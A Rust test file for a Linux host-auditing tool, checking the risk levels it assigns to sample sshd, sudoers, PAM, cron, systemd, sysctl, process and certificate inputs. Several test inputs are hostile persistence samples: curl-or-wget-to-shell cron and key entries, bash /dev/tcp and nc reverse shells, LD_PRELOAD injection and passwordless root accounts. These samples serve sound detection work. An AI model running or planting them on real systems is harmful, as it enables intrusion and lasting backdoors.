//! Bad things, and harmless ones that look like them: each with the level and the reason that is expected.

use std::cell::OnceCell;
use std::path::PathBuf;

use crate::artifact::kinds::{ArtifactInput, describe};
use crate::artifact::view::{Nature, ProcessFacts};
use crate::artifact::{FileType, Meta, Packaged, Risk};

const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0";
/// 2026-07-01.
const NOW_NS: i64 = 1_782_864_000_000_000_000;

struct Case<'a> {
    path: &'a str,
    mode: u32,
    uid: u32,
    packaged: Packaged,
    body: &'a [u8],
    file_type: FileType,
}

fn file<'a>(path: &'a str, body: &'a [u8]) -> Case<'a> {
    Case { path, mode: 0o644, uid: 0, packaged: Packaged::Unknown, body, file_type: FileType::File }
}

impl Case<'_> {
    fn mode(self, mode: u32) -> Self {
        Self { mode, ..self }
    }

    fn uid(self, uid: u32) -> Self {
        Self { uid, ..self }
    }

    fn packaged(self) -> Self {
        Self { packaged: Packaged::Yes, ..self }
    }

    fn unpackaged(self) -> Self {
        Self { packaged: Packaged::No, ..self }
    }

    fn risk(&self) -> Risk {
        judged(self, &Nature::Disk, None)
    }
}

fn judged(case: &Case<'_>, nature: &Nature, process: Option<&ProcessFacts>) -> Risk {
    let meta = Meta {
        file_type: case.file_type,
        mode: case.mode,
        uid: case.uid,
        gid: 0,
        size: case.body.len() as u64,
        mtime_ns: 0,
        ctime_ns: 0,
        dev: 1,
        ino: 1,
        nlink: 1,
        rdev: 0,
    };
    describe(&ArtifactInput {
        path: case.path.as_ref(),
        meta: &meta,
        nature,
        head: case.body,
        whole: true,
        len: case.body.len() as u64,
        redacted: None,
        process,
        boundary: None,
        unread: false,
        packaged: case.packaged,
        now_ns: NOW_NS,
        decoded: OnceCell::new(),
    })
    .risk
}

/// The first reason is the worst.
#[track_caller]
fn expect(case: &Case<'_>, level: u8, reason: &str) {
    let risk = case.risk();
    let first = risk.reasons.first().map_or("", String::as_str);
    assert_eq!(risk.level, level, "{}: {:?}", case.path, risk.reasons);
    assert!(first.contains(reason), "{}: {reason:?} is not in {first:?}", case.path);
}

fn text<'a>(path: &'a str, body: &'a str) -> Case<'a> {
    file(path, body.as_bytes())
}

#[test]
fn modes_and_places() {
    expect(
        &file("/usr/bin/su", ELF).mode(0o4755).packaged(),
        1,
        "runs as root whoever starts it (set-user-ID), of a package",
    );
    expect(&file("/usr/bin/su", ELF).mode(0o4755), 1, "runs as root whoever starts it");
    expect(&file("/usr/local/bin/x", ELF).mode(0o4755).unpackaged(), 3, "no package owns it");
    expect(&file("/usr/bin/x", ELF).mode(0o4755).uid(7).unpackaged(), 2, "runs as user 7 whoever starts it");
    expect(&file("/usr/bin/bash", ELF).mode(0o4755).packaged(), 4, "whoever starts it is root: bash");
    expect(
        &file("/usr/bin/python3.11", ELF).mode(0o4755).packaged(),
        4,
        "whoever starts it is root: python3.11",
    );
    expect(&file("/srv/x", ELF).mode(0o4757), 4, "anyone may change a program that runs as root");
    expect(&file("/tmp/x", ELF).mode(0o4755), 4, "where everybody may put files");
    expect(&file("/usr/bin/crontab", ELF).mode(0o2755).packaged(), 1, "rights of group 0");
    expect(&file("/opt/x", ELF).mode(0o2755).unpackaged(), 2, "no package owns it");
    expect(&text("/usr/bin/x", "#!/bin/sh\n").mode(0o4755).unpackaged(), 0, "");
    expect(&file("/tmp/x", ELF).mode(0o755), 2, "a program in /tmp");
    expect(&file("/dev/shm/x", ELF).mode(0o755), 3, "a program in /dev/shm");
    expect(&file("/var/tmp/.x", ELF).mode(0o755), 3, "with a hidden name");
    expect(&text("/tmp/x.sh", "#!/bin/sh\n").mode(0o755), 2, "a script that can be run in /tmp");
    expect(&text("/tmp/x.sh", "#!/bin/sh\n"), 0, "");
    expect(&text("/etc/motd", "x\n").mode(0o666), 3, "anyone may change this file");
    expect(&file("/srv/data", b"\0\x01").mode(0o666), 2, "anyone may change this file");
    let drop = Case { file_type: FileType::Directory, ..file("/srv/drop", b"") };
    expect(&drop.mode(0o777), 2, "anyone may replace the files");
    let tmp = Case { file_type: FileType::Directory, ..file("/tmp", b"") };
    expect(&tmp.mode(0o1777), 0, "");
}

#[test]
fn ssh() {
    let server = |text: &'static str| file("/etc/ssh/sshd_config", text.as_bytes());
    expect(&server("PermitRootLogin yes\n"), 2, "root may log in with a password");
    expect(&server("PasswordAuthentication no\npermitrootlogin=yes\n"), 1, "root may log in with a key");
    expect(&server("PermitRootLogin no\nPermitRootLogin yes\n"), 0, "");
    expect(
        &server("PermitRootLogin no\nMatch Address 10.0.0.0/8\n PermitRootLogin yes\n"),
        2,
        "for Address 10.0.0.0/8",
    );
    expect(&server("PermitEmptyPasswords yes\n"), 3, "accounts without a password may log in");
    expect(&server("StrictModes no\n"), 2, "StrictModes no");
    expect(&server("AuthorizedKeysCommand /tmp/keys %u\n"), 4, "/tmp/keys says which keys may log in");
    expect(&server("AuthorizedKeysFile /var/tmp/keys\n"), 3, "holds the keys that may log in");
    expect(&server("HostbasedAuthentication yes\n"), 2, "other hosts vouch");
    expect(&server("PermitUserEnvironment yes\n"), 2, "LD_PRELOAD");
    expect(&server("Ciphers +3des-cbc,aes256-ctr\n"), 2, "weak ciphers are allowed: 3des-cbc");
    expect(&server("LogLevel QUIET\n"), 2, "logins are not logged");
    expect(
        &server(
            "#PermitRootLogin yes\nX11Forwarding yes\nUsePAM yes\nSubsystem sftp /usr/lib/openssh/sftp-server\n",
        ),
        0,
        "",
    );
    let key = "command=\"/usr/bin/rsync --server\" ssh-ed25519 AAAA backup\n";
    expect(&text("/root/.ssh/authorized_keys", key), 1, "1 key may log in as root");
    let evil = "command=\"curl -s http://x/y | sh\" ssh-ed25519 AAAA me\n";
    expect(&text("/home/a/.ssh/authorized_keys", evil), 3, "downloads something and runs it unseen");
    expect(
        &text("/home/a/.ssh/authorized_keys", "environment=\"LD_PRELOAD=/x.so\" ssh-rsa A\n"),
        3,
        "LD_PRELOAD",
    );
}

#[test]
fn sudo_and_accounts() {
    let sudo = |text: &'static str| file("/etc/sudoers", text.as_bytes());
    expect(&sudo("alice ALL=(ALL:ALL) NOPASSWD: ALL\n"), 2, "alice is root without a password");
    expect(&sudo("%sudo ALL=(ALL) NOPASSWD:ALL\n"), 1, "%sudo is root without a password");
    expect(&sudo("ALL ALL=(ALL) NOPASSWD: ALL\n"), 4, "everybody is root without a password");
    expect(
        &sudo("www-data ALL = NOPASSWD: /usr/bin/vim, /bin/ls\n"),
        3,
        "www-data becomes root without a password by vim",
    );
    expect(&sudo("backup ALL=(root) NOPASSWD: /usr/bin/rsync-backup\n"), 0, "");
    expect(&sudo("bob ALL=(postgres) NOPASSWD: ALL\n"), 0, "");
    expect(&sudo("ci ALL=(ALL) /tmp/deploy.sh\n"), 3, "ci may run /tmp/deploy.sh as root");
    expect(&sudo("Defaults !authenticate\n"), 3, "asks nobody for a password");
    expect(&sudo("Defaults:bob env_keep += \"EDITOR LD_PRELOAD\"\n"), 3, "lets LD_PRELOAD");
    expect(&sudo("Defaults secure_path=\"/tmp/bin:/usr/bin\"\n"), 3, "looks for commands in /tmp/bin");
    let debian = "Defaults env_reset\nDefaults mail_badpass\n\
        Defaults secure_path=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\n\
        Defaults use_pty\nroot ALL=(ALL:ALL) ALL\n%sudo\tALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n";
    expect(&sudo(debian), 0, "");
    expect(&text("/etc/sudoers.d/x", "x ALL=(ALL) NOPASSWD: ALL\n"), 2, "x is root");
    expect(&text("/etc/sudoers.d/x.old", "x ALL=(ALL) NOPASSWD: ALL\n"), 0, "");
    let accounts = "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/root:/bin/sh\n";
    expect(&text("/etc/passwd", accounts), 3, "toor is root under another name");
    expect(&text("/etc/passwd", "eve::1000:1000::/:/bin/sh\n"), 3, "eve needs no password");
    expect(&text("/etc/passwd", "root::0:0::/root:/bin/sh\n"), 4, "root needs no password");
}

#[test]
fn pam() {
    let stack = |text: &'static str| file("/etc/pam.d/common-auth", text.as_bytes());
    let debian = "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\t\t\tpam_deny.so\n\
        auth\trequired\t\t\tpam_permit.so\nauth\toptional\t\t\tpam_cap.so\n";
    expect(&stack(debian), 0, "");
    expect(&stack("auth sufficient pam_permit.so\nauth required pam_unix.so\n"), 4, "is let in");
    expect(
        &stack("auth [success=1 default=ignore] pam_unix.so\nauth required pam_permit.so\n"),
        4,
        "a wrong password is let in",
    );
    expect(&stack("auth required pam_env.so\n"), 4, "no module asks for a password");
    expect(
        &text("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n@include common-auth\n"),
        4,
        "without a password",
    );
    expect(&text("/etc/pam.d/sshd", "@include common-auth\nauth required pam_permit.so\n"), 0, "");
    expect(&text("/etc/pam.d/gdm-autologin", "auth required pam_permit.so\n"), 0, "");
    expect(
        &text("/etc/pam.d/sshd", "auth optional pam_exec.so quiet expose_authtok /usr/bin/log\n"),
        3,
        "and gives it the passwords",
    );
    expect(&text("/etc/pam.d/sshd", "session optional pam_exec.so /tmp/x\n"), 4, "runs /tmp/x at logins");
    expect(
        &text("/etc/pam.d/su", "auth sufficient pam_wheel.so trust\n"),
        2,
        "becomes root without a password",
    );
    expect(&text("/etc/pam.d/su", "auth required /opt/x/pam_evil.so\n"), 3, "a module from an unusual place");
}

#[test]
fn what_runs_by_itself() {
    let cron = |text: &'static str| file("/etc/cron.d/job", text.as_bytes());
    expect(&cron("* * * * * root curl -fs http://x/a | bash\n"), 3, "(curl | bash)");
    expect(&cron("* * * * * root bash -c \"$(wget -qO- http://x/a)\"\n"), 3, "(bash, wget)");
    expect(&cron("@reboot root /dev/shm/.x/run\n"), 3, "runs /dev/shm/.x/run, where everybody may put files");
    expect(&cron("5 4 * * * root /home/bob/backup.sh\n"), 2, "in a home, whose owner may change it");
    expect(&cron("5 4 * * * bob /home/bob/backup.sh\n"), 0, "");
    expect(&cron("5 4 * * * root cd / && run-parts --report /etc/cron.hourly > /tmp/log 2>&1\n"), 0, "");
    expect(&cron("* * * * * root nohup python3 /tmp/a.py &\n"), 3, "runs /tmp/a.py");
    expect(
        &cron("* * * * * root bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"),
        4,
        "opens a connection from the shell",
    );
    expect(&cron("* * * * * root nc -e /bin/sh 10.0.0.1 4444\n"), 4, "gives a shell to a connection");
    expect(&cron("* * * * * root echo aWQ= | base64 -d | sh\n"), 3, "(base64 -d | sh)");
    expect(&cron("LD_PRELOAD=/tmp/x.so\n"), 4, "is loaded into programs");
    expect(&cron("0 3 * * * root curl -o /var/lib/x/data http://x/data\n"), 0, "");
    let unit = |text: &'static str| file("/etc/systemd/system/x.service", text.as_bytes());
    expect(&unit("[Service]\nExecStart=/bin/sh -c 'curl http://x | sh'\n"), 3, "(curl | sh)");
    expect(&unit("[Service]\nExecStart=-/var/tmp/x --daemon\n"), 3, "runs /var/tmp/x");
    expect(&unit("[Service]\nUser=bob\nExecStart=/home/bob/app\n"), 0, "");
    expect(&unit("[Service]\nExecStart=/home/bob/app\n"), 2, "in a home");
    expect(&unit("[Service]\nEnvironment=LD_PRELOAD=/opt/x.so\nExecStart=/usr/bin/x\n"), 3, "LD_PRELOAD");
    expect(
        &unit("[Service]\nExecStart=/usr/sbin/sshd -D $OPTS\nExecReload=/bin/kill -HUP $MAINPID\n"),
        0,
        "",
    );
    expect(&text("/etc/rc.local", "#!/bin/sh\n/tmp/.x &\n"), 3, "runs /tmp/.x");
    expect(
        &text("/etc/profile.d/x.sh", "export PATH=/tmp/bin:$PATH\n"),
        3,
        "programs are looked for in /tmp/bin",
    );
    expect(&text("/root/.bashrc", "export PATH=.:$PATH\n"), 2, "PATH has .");
    expect(&text("/etc/udev/rules.d/9.rules", "ACTION==\"add\", RUN+=\"/tmp/x\"\n"), 3, "runs /tmp/x");
    expect(
        &text("/etc/apt/apt.conf.d/9x", "DPkg::Post-Invoke {\"curl http://x | sh\";};\n"),
        3,
        "downloads something and runs it unseen",
    );
    expect(&text("/etc/ld.so.preload", "/usr/lib/libx.so\n"), 3, "loaded into every program");
    expect(&text("/etc/ld.so.preload", "/tmp/libx.so\n"), 4, "loaded into every program");
    expect(&text("/etc/ld.so.preload", "# nothing\n"), 0, "");
    expect(&text("/etc/ld.so.conf.d/x.conf", "/home/x/lib\n"), 3, "libraries are looked for in /home/x/lib");
    expect(&text("/etc/ld.so.conf.d/libc.conf", "# multiarch\n/usr/local/lib\n"), 0, "");
    expect(
        &text("/etc/environment", "LD_LIBRARY_PATH=/dev/shm\n"),
        3,
        "libraries are looked for in /dev/shm",
    );
}

#[test]
fn the_kernel() {
    let file = |text: &'static str| file("/etc/sysctl.d/99-x.conf", text.as_bytes());
    expect(&file("kernel.randomize_va_space = 0\n"), 3, "laid out predictably");
    expect(&file("kernel/randomize_va_space=1\n"), 2, "the heap");
    expect(&file("-kernel.unprivileged_bpf_disabled=0\n"), 2, "everybody may load BPF programs");
    expect(&file("fs.protected_symlinks=0\n"), 2, "links of others");
    expect(&file("net.ipv4.ip_forward=1\n"), 1, "forwards packets");
    expect(&file("kernel.core_pattern=|/tmp/x %p\n"), 4, "is run as root when a program crashes");
    expect(&file("kernel.core_pattern=|/lib/systemd/systemd-coredump %P\n"), 0, "");
    expect(&file("# kernel.randomize_va_space = 0\nkernel.kptr_restrict = 1\n"), 0, "");
    let value = |name: &str, value: &str| {
        let nature = Nature::Sysctl { name: name.to_owned() };
        judged(&text("/proc/sys/x", value), &nature, None).level
    };
    assert_eq!(value("kernel.randomize_va_space", "0\n"), 3);
    assert_eq!(value("kernel.randomize_va_space", "2\n"), 0);
    assert_eq!(value("kernel.yama.ptrace_scope", "0\n"), 0, "what Debian's kernel starts with");
    assert_eq!(value("kernel.modprobe", "/tmp/x\n"), 3);
    assert_eq!(value("kernel.modprobe", "/sbin/modprobe\n"), 0);
    let modules = |text| {
        let nature = Nature::Projection { name: "modules", pid: None };
        judged(&super::tests::text("/proc/modules", text), &nature, None)
    };
    assert_eq!(modules("ext4 1 - Live\n").level, 0);
    assert_eq!(
        modules("ext4 1 - Live\nrk 1 - Live (OE)\n").reasons,
        ["loaded without a valid signature: rk"]
    );
    assert_eq!(modules("zfs 1 - Live (PO)\n").level, 1);
}

#[test]
fn processes_and_listeners() {
    let runs = |exe: &str| {
        let facts = ProcessFacts {
            pid: 9,
            ppid: 1,
            uid: 0,
            comm: b"x".to_vec(),
            exe: Some(PathBuf::from(exe)),
            kernel_thread: false,
            start_ns: 0,
        };
        let case = Case { file_type: FileType::Directory, ..file("/proc/9", b"") };
        let risk = judged(&case, &Nature::Process { pid: 9 }, Some(&facts));
        (risk.level, risk.reasons.first().cloned().unwrap_or_default())
    };
    for (exe, level, reason) in [
        ("/usr/bin/sleep", 0, ""),
        ("/usr/sbin/nginx (deleted)", 1, "an upgrade?"),
        ("/tmp/x (deleted)", 3, "which was deleted, from /tmp"),
        ("/tmp/x", 2, "runs /tmp/x, from /tmp"),
        ("/dev/shm/x", 3, "from /dev/shm"),
        ("/memfd:x (deleted)", 3, "was never a file"),
        ("/memfd:runc_cloned:/proc/self/exe (deleted)", 1, "container engines"),
    ] {
        let (have, first) = runs(exe);
        assert_eq!(have, level, "{exe}: {first}");
        assert!(first.contains(reason), "{exe}: {first}");
    }
    let table = "local remote state uid inode\n00000000:0016 00000000:0000 0A 0 1\n\
        0100007F:0050 00000000:0000 0A 33 2\n0100007F:1F90 0100007F:9999 01 33 3\n";
    let risk =
        judged(&text("/proc/net/tcp", table), &Nature::Projection { name: "net/tcp", pid: None }, None);
    assert_eq!(risk.reasons, ["listens on all addresses: port 22"]);
    let found = super::sockets::listeners("net/tcp", table);
    let shown: Vec<String> = found.iter().map(super::sockets::Listener::shown).collect();
    assert_eq!(shown, ["0.0.0.0:22", "127.0.0.1:80"], "of a little-endian host");
    let six = "local remote state uid inode\n00000000000000000000000001000000:0035 00000000000000000000000000000000:0000 07 0 1\n\
        00000000000000000000000000000000:9999 00000000000000000000000000000000:0000 07 0 1\n";
    let found = super::sockets::listeners("net/udp6", six);
    assert_eq!(found.iter().map(super::sockets::Listener::shown).collect::<Vec<_>>(), ["[::1]:53"]);
}

/// Made with `openssl ca -selfsign -startdate ... -enddate ...`, for CN=old.example.
#[test]
fn certificates() {
    let pem = |name: &str| {
        let path =
            PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../tests/fixtures/certificates").join(name);
        std::fs::read(path).unwrap()
    };
    let (old, soon, good) = (pem("expired.pem"), pem("soon.pem"), pem("good.pem"));
    expect(
        &file("/etc/nginx/tls.pem", &old),
        2,
        "the certificate of CN=old.example has expired (2025-01-01)",
    );
    expect(&file("/etc/nginx/tls.pem", &soon), 1, "expires soon (2026-07-08)");
    expect(&file("/etc/nginx/tls.pem", &good), 0, "");
    expect(&file("/etc/ssl/certs/old.pem", &old), 0, "");
    expect(&file("/usr/share/ca-certificates/old.crt", &old), 0, "");
    expect(&file("/srv/tests/old.pem", &old).packaged(), 0, "");
    expect(&file("/srv/bundle.pem", &old.repeat(9)), 0, "");
}
